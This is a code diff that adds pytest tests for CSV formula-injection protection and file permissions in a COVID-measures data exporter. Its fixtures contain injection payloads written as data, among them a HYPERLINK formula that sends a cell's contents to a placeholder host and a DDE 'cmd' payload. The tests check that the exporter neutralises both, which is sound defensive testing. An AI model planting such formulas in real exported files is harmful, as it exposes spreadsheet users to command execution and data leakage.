@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 from collections import defaultdict
 from pathlib import Path
 
@@ -473,3 +474,117 @@ def test_real_tracker_layouts_have_a_row_per_measure_and_place_day(runner: CliRu
     assert oxcgrt.exit_code == 0, oxcgrt.output
     places = run_query(store, get_named_query("export-oxcgrt-places").text)
     assert len(read_csv(oxcgrt.stdout)) == len(places.rows) * len(export_module.tracker_days(store))
+
+
+# ---------------------------------------------------------------- CSV injection and file permissions
+
+# Cells a spreadsheet would run as formulas (labels, quotes, a measure id); a negative value that must stay a number.
+FORMULA_FACTS = (
+    HEADER
+    + """
+<https://w3id.org/cq-covid/id/measure/=2+3>
+    a cq:Measure ;
+    rdfs:label "=HYPERLINK(\\"http://example.invalid/?\\"&A1,\\"click\\")"@en, "@SUM(1,2)"@zh ;
+    cq:category cat:testing ;
+    cq:strength cq:Mandatory ;
+    cq:appliesTo place:chongqing ;
+    cq:announced "2022-11-09"^^xsd:date ;
+    cq:announcedKind cq:EventDate ;
+    cq:inForceFromKind cq:NotStated ;
+    cq:inForceUntilKind cq:NotStated ;
+    cq:source src:article-003 ;
+    cq:quote "-2+3+cmd|' /C calc'!A0" .
+
+obs:test-formula
+    a cq:Observation ;
+    rdfs:label "\\tTAB"@zh, "+1 new case"@en ;
+    cq:statistic stat:new-confirmed-cases ;
+    cq:area place:chongqing ;
+    cq:refDate "2022-11-09"^^xsd:date ;
+    cq:refDateKind cq:StatedDate ;
+    cq:value -3.5 ;
+    cq:unit unit:NUM ;
+    cq:source src:article-003 ;
+    cq:quote "\\rCR first" .
+"""
+)
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_that_start_a_formula_get_a_quote_mark(runner: CliRunner, mini_project: Project) -> None:
+    add_fact(mini_project, FORMULA_FACTS)
+    measures = run(runner, mini_project, "--format", "csv")
+    assert measures.exit_code == 0, measures.output
+    [row] = read_csv(measures.stdout)
+    assert row["label_en"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    assert row["label_zh"] == "'@SUM(1,2)"
+    assert row["quote"] == "'-2+3+cmd|' /C calc'!A0"
+    statistics = run(runner, mini_project, "--format", "csv", "--table", "statistics")
+    assert statistics.exit_code == 0, statistics.output
+    [stat] = read_csv(statistics.stdout)
+    assert (stat["label_zh"], stat["label_en"], stat["quote"]) == ("'\tTAB", "'+1 new case", "'\rCR first")
+    assert float(stat["value"]) == -3.5  # a plain number stays a number for spreadsheets and pandas alike
+    coronanet = run(runner, mini_project, "--format", "coronanet")
+    assert coronanet.exit_code == 0, coronanet.output
+    [event] = read_csv(coronanet.stdout)
+    assert event["record_id"] == event["policy_id"] == "'=2+3"
+    assert event["description"].startswith("'=HYPERLINK(") and event["description_zh"] == "'@SUM(1,2)"
+    oxcgrt = run(runner, mini_project, "--format", "oxcgrt")
+    assert oxcgrt.exit_code == 0, oxcgrt.output
+    for text in (measures.stdout, statistics.stdout, coronanet.stdout, oxcgrt.stdout):
+        for line in csv.reader(io.StringIO(text)):
+            for cell in line:
+                assert not cell.startswith(DANGEROUS) or export_module._PLAIN_NUMBER.fullmatch(cell), cell
+    assert any("'=2+3" in line for line in oxcgrt.stdout.splitlines())
+
+
+def test_raw_csv_writes_cells_exactly(runner: CliRunner, mini_project: Project) -> None:
+    add_fact(mini_project, FORMULA_FACTS)
+    result = run(runner, mini_project, "--format", "csv", "--raw-csv")
+    assert result.exit_code == 0, result.output
+    [row] = read_csv(result.stdout)
+    assert row["label_en"] == '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    assert row["quote"] == "-2+3+cmd|' /C calc'!A0"
+    coronanet = run(runner, mini_project, "--format", "coronanet", "--raw-csv", "--excel")
+    assert coronanet.exit_code == 0, coronanet.output
+    [event] = read_csv(coronanet.stdout_bytes.decode("utf-8-sig"))
+    assert event["record_id"] == "=2+3"
+
+
+def test_raw_csv_applies_only_to_csv_output(runner: CliRunner, mini_project: Project) -> None:
+    result = run(runner, mini_project, "--format", "ttl", "--raw-csv")
+    assert result.exit_code == 2, result.output
+    assert "--raw-csv applies to CSV output, not to ttl" in result.output and "Traceback" not in result.output
+
+
+@pytest.mark.parametrize("value", ["-3", "+3", "-3.5", "1e5", "-.5", "2022-11-09", "a=b", ""])
+def test_plain_numbers_and_inner_signs_are_left_alone(value: str) -> None:
+    assert export_module.protect_cell(value) == value
+
+
+@pytest.mark.parametrize("value", ["=1+1", "-21-21", "+A1", "@SUM(A1)", "\tx", "\rx", "-", "-1,0", "-٣"])
+def test_formula_starts_are_neutralised(value: str) -> None:
+    assert export_module.protect_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("umask", [0o022, 0o027])
+def test_exported_file_gets_normal_permissions(
+    runner: CliRunner, mini_project: Project, tmp_path: Path, umask: int
+) -> None:
+    target = tmp_path / "measures.csv"
+    old = os.umask(umask)
+    try:
+        result = run(runner, mini_project, "--format", "csv", "-o", str(target))
+    finally:
+        os.umask(old)
+    assert result.exit_code == 0, result.output
+    assert target.stat().st_mode & 0o777 == 0o666 & ~umask
+
+
+def test_export_over_an_existing_file_keeps_its_mode(runner: CliRunner, mini_project: Project, tmp_path: Path) -> None:
+    target = tmp_path / "out.nq"
+    target.write_text("old", "utf-8")
+    target.chmod(0o640)
+    result = run(runner, mini_project, "--format", "nq", "-o", str(target))
+    assert result.exit_code == 0, result.output
+    assert target.stat().st_mode & 0o777 == 0o640 and target.read_text("utf-8") != "old"
